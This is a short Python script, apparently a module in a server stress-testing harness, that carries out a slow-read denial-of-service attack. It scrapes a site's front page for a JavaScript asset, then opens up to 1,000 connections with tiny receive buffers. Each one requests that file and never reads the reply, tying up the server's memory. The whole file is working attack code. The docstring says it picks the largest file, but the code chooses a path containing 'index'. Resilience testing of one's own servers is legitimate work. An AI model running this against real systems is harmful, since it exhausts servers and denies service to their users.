"""Connections that ask for the largest page file and never read it: it waits in the server's memory, without an end."""

import re

from begin import SECONDS
from hostile import try_ways
from stranger import Cable, Stranger
from ways import Way, request


class UnreadPages(Way):
    name = "pages unread on 1,000 connections"

    def prepare(self, stranger: Stranger) -> None:
        page = stranger.http("GET", "/")[1].decode()
        self.path = max(re.findall(r'"(/assets/[^"]+\.js)"', page) or ["/"], key=lambda p: "index" in p)

    def attack(self, stranger: Stranger) -> None:
        cables: list[Cable] = []
        while stranger.on:
            try:
                if len(cables) < 1000:
                    cables.append(stranger.cable())
                    cables[-1].socket.setsockopt(1, 8, 4096)  # a small receive buffer
                    cables[-1].send(request("GET", self.path))
            except OSError:
                stranger.counts["turned away"] += 1
        stranger.counts["connections"] = len(cables)


if __name__ == "__main__":
    try_ways([UnreadPages], SECONDS)
